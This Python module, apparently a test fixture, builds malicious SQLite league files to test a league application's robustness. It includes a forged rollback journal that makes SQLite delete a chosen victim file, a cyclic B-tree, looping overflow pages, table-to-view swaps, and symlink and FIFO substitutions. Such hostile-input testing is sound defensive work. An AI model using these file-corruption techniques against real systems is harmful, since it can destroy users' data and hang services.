"""Files of games that somebody made to do harm, for whoever reads them."""

import os
import sqlite3
import struct
from collections.abc import Callable, Iterable
from contextlib import closing
from pathlib import Path

Attack = Callable[[Path], None]
"""Changes the file `league.sqlite` of a league, or what lies beside it."""

PAGE = 4096
ENDLESS = "WITH RECURSIVE x(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM x)"


def run(*statements: str) -> Attack:
    """Return an attack by SQL."""

    def change(path: Path) -> None:
        with closing(sqlite3.connect(path, isolation_level=None)) as database:
            for statement in statements:
                database.execute(statement)

    return change


def in_place_of(table: str, view: str) -> Attack:
    return run(f"DROP TABLE {table}", f"CREATE VIEW {table} AS {view}")


def beside(ending: str, make: Callable[[Path], object]) -> Attack:
    """Return an attack by a file beside it."""
    return lambda path: (make(path.with_name(path.name + ending)), None)[1]


def rolled_back(path: Path, victim: Path) -> None:
    """Leave a journal that SQLite rolls back, and after that removes the victim."""
    magic = bytes.fromhex("d9d505f920a163d7")
    pages = path.stat().st_size // PAGE
    head = magic + struct.pack(">5I", 0, 0, pages, 512, PAGE)
    name = str(victim).encode()
    tail = struct.pack(">I", 2**30 // PAGE + 1) + name
    tail += struct.pack(">2I", len(name), sum(name)) + magic
    journal = path.with_name(path.name + "-journal")
    journal.write_bytes(head.ljust(512, b"\0") + tail)


def _root(path: Path, table: str) -> int:
    query = "SELECT rootpage FROM sqlite_schema WHERE name = ?"
    with closing(sqlite3.connect(path)) as database:
        (root,) = database.execute(query, (table,)).fetchone()
    return int(root)


def endless_tree(table: str) -> Attack:
    """Return an attack by a tree of 19 levels, in which all branches are the same."""

    def change(path: Path) -> None:
        root = _root(path, table)
        data = bytearray(path.read_bytes())
        first = len(data) // PAGE + 1
        levels = 17
        leaf = data[(root - 1) * PAGE : root * PAGE]
        pages = [
            _branches([first + level + 1] * 400, first + level + 1)
            for level in range(levels)
        ]
        data[(root - 1) * PAGE : root * PAGE] = _branches([first] * 400, first)
        for page in (*pages, leaf):
            data += page
        data[28:32] = struct.pack(">I", len(data) // PAGE)
        path.write_bytes(data)

    return change


def _branches(children: Iterable[int], last: int) -> bytes:
    """Return an inner page of a table; all its keys are alike."""
    cells = [struct.pack(">I", child) + b"\x01" for child in children]
    page = bytearray(PAGE)
    end = PAGE
    for number, cell in enumerate(cells):
        end -= len(cell)
        page[end : end + len(cell)] = cell
        page[12 + 2 * number : 14 + 2 * number] = struct.pack(">H", end)
    page[:12] = b"\x05\0\0" + struct.pack(">HHBI", len(cells), end, 0, last)
    return bytes(page)


def endless_text(path: Path) -> None:
    """Let the description of the league go on in the same page, a gigabyte long."""
    run(
        "INSERT INTO meta VALUES ('x', printf('%.*c', 30000, 'x'))",
        "UPDATE meta SET value = (SELECT value FROM meta WHERE key = 'x') "
        "WHERE key = 'league'",
    )(path)
    data = path.read_bytes()
    found = [
        number
        for number in range(len(data) // PAGE)
        if data[number * PAGE + 4 : (number + 1) * PAGE] == b"x" * (PAGE - 4)
    ]
    changed = bytearray(data)
    for number in found:
        changed[number * PAGE : number * PAGE + 4] = struct.pack(">I", found[0] + 1)
    path.write_bytes(changed)


def link(path: Path) -> None:
    """Put a link in the place of the file."""
    target = path.with_name("elsewhere")
    os.rename(path, target)
    path.symlink_to(target)


def fifo(path: Path) -> None:
    path.unlink(missing_ok=True)
    os.mkfifo(path)
